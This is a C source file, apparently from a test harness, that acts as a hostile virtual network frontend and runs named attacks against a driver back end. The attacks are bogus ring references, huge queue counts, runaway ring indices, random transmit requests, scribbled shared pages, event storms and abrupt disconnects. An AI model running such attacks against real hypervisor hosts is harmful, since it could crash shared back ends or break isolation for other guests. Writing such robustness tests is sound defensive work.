/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on an interface's back end. Source of the protocol: public/io/netif.h. */
#include "front.h"

#include <runtime/console.h>
#include <runtime/evtchn.h>
#include <runtime/mm.h>
#include <runtime/time.h>
#include <string.h>

#include <public/io/netif.h>

#define RING_SLOTS __CONST_RING_SIZE(netif_tx, PAGE_SIZE)
#define GIVE_UP_MS 1500u
#define ROUNDS 5u

static struct netif_tx_sring *tx;
static struct netif_rx_sring *rx;
static grant_ref_t tx_ref, rx_ref, data_ref;

static void pause_ms(unsigned int ms)
{
    (void)event_wait(time_now_ns() + ms * NS_PER_MS);
}

static void offer(struct device *dev)
{
    device_write(dev, "request-rx-copy", "1");
    device_write(dev, "feature-rx-notify", "1");
    device_write(dev, "feature-sg", "1");
    device_state(dev, XenbusStateConnected);
}

static bool connect(struct device *dev)
{
    tx = device_share(dev, &tx_ref);
    rx = device_share(dev, &rx_ref);
    (void)device_share(dev, &data_ref);
    tx->req_event = tx->rsp_event = rx->req_event = rx->rsp_event = 1;
    device_write(dev, "tx-ring-ref", "%u", tx_ref);
    device_write(dev, "rx-ring-ref", "%u", rx_ref);
    device_port(dev);
    offer(dev);
    if (!device_wait(dev, XenbusStateConnected, 2 * GIVE_UP_MS)) {
        printk("HOSTILE vif: not connected\n");
        return false;
    }
    return true;
}

static void push(struct device *dev, unsigned int count)
{
    __atomic_store_n(&tx->req_prod, tx->req_prod + count, __ATOMIC_RELEASE);
    (void)evtchn_send(dev->port);
    pause_ms(5);
}

static void no_rings(struct device *dev)
{
    offer(dev);
    pause_ms(300);
}

static void nobodys_rings(struct device *dev)
{
    device_write(dev, "tx-ring-ref", "%u", 0xfffffffu);
    device_write(dev, "rx-ring-ref", "-5");
    device_port(dev);
    offer(dev);
    pause_ms(300);
}

static void many_queues(struct device *dev)
{
    device_port(dev);
    device_write(dev, "multi-queue-num-queues", "%u", 4000000000u);
    offer(dev);
    pause_ms(300);
}

static void tx_index_ahead(struct device *dev)
{
    if (connect(dev)) {
        push(dev, 100000);
        pause_ms(100);
    }
}

static void rx_index_ahead(struct device *dev)
{
    if (connect(dev)) {
        __atomic_store_n(&rx->req_prod, 0x7fffffffu, __ATOMIC_RELEASE);
        (void)evtchn_send(dev->port);
        pause_ms(100);
    }
}

/* Frames of pages that are not ours, that leave their page, without end, with extra information that is none. */
static void wild_frames(struct device *dev)
{
    for (unsigned int round = 0; round < ROUNDS; round++) {
        if (!connect(dev)) {
            return;
        }
        for (unsigned int batch = 0; batch < 20; batch++) {
            for (unsigned int i = 0; i < RING_SLOTS / 2; i++) {
                struct netif_tx_request *r = &tx->ring[(tx->req_prod + i) % RING_SLOTS].req;
                uint64_t n = any();

                r->gref = n & 1 ? data_ref : (grant_ref_t)any();
                r->offset = (uint16_t)(n & 2 ? n >> 16 & 0xfff : n >> 16);
                r->size = (uint16_t)(n & 4 ? n >> 32 & 0x3ff : n >> 32);
                r->flags = (uint16_t)(n & 8 ? n >> 48 & 3 : n >> 48);
                r->id = (uint16_t)any();
            }
            push(dev, RING_SLOTS / 2);
            if (tx->rsp_prod != tx->req_prod) {
                break; /* it had enough of us */
            }
        }
        if (round + 1 < ROUNDS && !device_restart(dev)) {
            return;
        }
    }
}

static void scribbled(struct device *dev)
{
    uint64_t end;

    if (!connect(dev)) {
        return;
    }
    end = time_now_ns() + NS_PER_S;
    while (time_now_ns() < end) {
        ((uint64_t *)tx)[any() % (PAGE_SIZE / sizeof(uint64_t))] = any();
        ((uint64_t *)rx)[any() % (PAGE_SIZE / sizeof(uint64_t))] = any();
        (void)evtchn_send(dev->port);
    }
}

static void event_storm(struct device *dev)
{
    if (connect(dev)) {
        storm(dev, 1000);
    }
}

static void dies(struct device *dev)
{
    (void)connect(dev);
}

static const struct attack attacks[] = {
    { "connects with no rings", no_rings },
    { "rings that are nobody's", nobodys_rings },
    { "four thousand million queues", many_queues },
    { "a transmit index far ahead", tx_index_ahead },
    { "a receive index far ahead", rx_index_ahead },
    { "wild frames", wild_frames },
    { "rings scribbled over", scribbled },
    { "an event storm", event_storm },
    { "states that flap", device_flap },
    { "dies while connected", dies },
};

void vif_attacks(void)
{
    static struct device dev;

    device_attack(&dev, "vif", attacks, ARRAY_SIZE(attacks));
}
